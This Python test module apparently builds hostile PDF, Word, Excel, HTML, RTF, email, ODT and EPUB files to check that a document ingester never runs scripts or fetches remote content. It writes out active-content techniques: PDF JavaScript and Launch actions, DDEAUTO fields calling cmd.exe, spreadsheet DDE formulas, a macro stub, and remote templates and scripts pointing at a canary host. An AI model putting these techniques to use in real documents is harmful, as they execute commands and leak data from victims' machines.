"""Files that would run a script, start a program or fetch something, if anything let them."""

from tests.hostile.bad import MARK, PROCESSED, Bad
from tests.hostile.bombs import WORDS, W, docx
from tests.unit.ingest.offices import epub, odt, raw_xlsx
from tests.unit.ingest.pdfs import document

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def active_pdf(canary: str) -> bytes:
    """Return a PDF that wants to run a script, start a program, and fetch at every turn."""
    script = f"app.launchURL('{canary}/js');this.submitForm('{canary}/form');"
    actions = (
        f"/OpenAction<</S/JavaScript/JS({script.replace('(', chr(92) + '(').replace(')', chr(92) + ')')})"
        f"/Next<</S/Launch/F(/bin/touch)/Win<</F(touch)/P(/tmp{MARK})>>>>>>"
        f"/AA<</WC<</S/URI/URI({canary}/uri)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>"
    )
    note = f"<</Type/Annot/Subtype/Link/Rect[9 9 99 20]/A<</S/URI/URI({canary}/link)>>>>"
    data = document([WORDS], more=f"/Annots[{note}]/AA<</O<</S/GoToR/F({canary}/gotor)/D[0/Fit]>>>>")
    return data.replace(b"<</Type/Catalog", b"<</Type/Catalog" + actions.encode(), 1)


def active_docx(canary: str) -> bytes:
    """Return a Word file with macros, DDE fields, a remote template and remote pictures."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
        f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch /tmp{MARK}"'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        f"<w:p><w:fldSimple w:instr='INCLUDETEXT \"{canary}/include\"'><w:r><w:t>kept</w:t></w:r></w:fldSimple></w:p>"
    )
    kinds = ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "vbaProject")
    relations = "".join(
        f'<Relationship Id="r{i}" Type="{RELATIONS}/{kind}" Target="{canary}/{kind}" TargetMode="External"/>'
        for i, kind in enumerate(kinds)
    )
    rels = f'<Relationships xmlns="{PACKAGE}">{relations}</Relationships>'
    settings = f'<w:settings {W} xmlns:r="{RELATIONS}"><w:attachedTemplate r:id="r0"/></w:settings>'
    return docx(
        "A letter with a template.",
        field,
        {
            "word/_rels/document.xml.rels": rels,
            "word/_rels/settings.xml.rels": rels,
            "word/settings.xml": settings,
            "word/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + b"Sub AutoOpen()" + bytes(600),
        },
    )


def active_xlsx(canary: str) -> bytes:
    """Return a workbook whose cells call programs and whose links lead outside."""
    cell = '<c t="inlineStr"><is><t>{}</t></is></c>'
    cells = (
        f'<sheetData><row r="1">{cell.format("Name")}{cell.format("Formula")}</row><row r="2">'
        f'{cell.format("Ann")}{cell.format("=cmd|&#39;/c calc&#39;!A0")}</row><row r="3">{cell.format("Bob")}'
        f"<c t=\"str\"><f>cmd|'/c touch /tmp{MARK}'!A0</f><v>seen</v></c></row>"
        f'<row r="4">{cell.format("Cy")}<c><f>WEBSERVICE("{canary}/webservice")</f><v>7</v></c></row></sheetData>'
    )
    return raw_xlsx(cells)


def active_html(canary: str) -> bytes:
    return (
        f"<html><head><script src='{canary}/s.js'>fetch('{canary}/fetch')</script><link rel=stylesheet href={canary}/c>"
        f"<meta http-equiv=refresh content='0;url={canary}/r'></head><body onload=\"fetch('{canary}/o')\">"
        f"<img src='{canary}/i.png'><iframe src='{canary}/f'></iframe><object data='{canary}/d'></object>"
        f"<svg><image href='{canary}/v'/></svg><p>A page about gardens.</p></body></html>"
    ).encode()


def active_rtf(canary: str) -> bytes:
    return (
        rf"{{\rtf1\ansi{{\*\template {canary}/t.dot}}\pard A plain letter.\par"
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{canary}/p.png" \\d}}{{\fldrslt }}}}'
        rf'{{\field{{\*\fldinst DDEAUTO cmd "/c touch /tmp{MARK}"}}{{\fldrslt }}}}}}'
    ).encode()


def active_mail(canary: str) -> bytes:
    head = (
        "From: a@example.org\r\nTo: b@example.org\r\nSubject: Remote\r\nMIME-Version: 1.0\r\nContent-Type: {}\r\n\r\n"
    )
    parts = (
        f'Content-Type: message/external-body; access-type=URL; URL="{canary}/body"\r\n\r\n',
        "Content-Type: text/html\r\n\r\n" + active_html(canary).decode().replace("gardens", "letters"),
    )
    whole = head.format("multipart/mixed; boundary=b") + "".join(f"--b\r\n{part}\r\n" for part in parts) + "--b--\r\n"
    return whole.encode()


def active_odt(canary: str) -> bytes:
    link = f'xmlns:xlink="urn:l" xlink:href="{canary}/image" xlink:actuate="onLoad"'
    return odt(f"<text:p>An open letter.<draw:frame><draw:image {link}/></draw:frame></text:p>")


def active_epub(canary: str) -> bytes:
    return epub({"a.xhtml": f"<p>A chapter.</p><img src='{canary}/e.png'/><script src='{canary}/e.js'/>"})


ACTIVE = (
    Bad("active.pdf", (PROCESSED,), active_pdf, "plain words", "launchURL"),
    Bad("active.docm", (PROCESSED,), active_docx, "letter with a template", "DDEAUTO"),
    Bad("active.xlsm", (PROCESSED,), active_xlsx, "=cmd|'/c calc'!A0"),
    Bad("active.html", (PROCESSED,), active_html, "about gardens", "fetch("),
    Bad("active.rtf", (PROCESSED,), active_rtf, "plain letter", "DDEAUTO"),
    Bad("active.eml", (PROCESSED,), active_mail, "about letters", "fetch("),
    Bad("active.odt", (PROCESSED,), active_odt, "open letter"),
    Bad("active.epub", (PROCESSED,), active_epub, "chapter"),
)
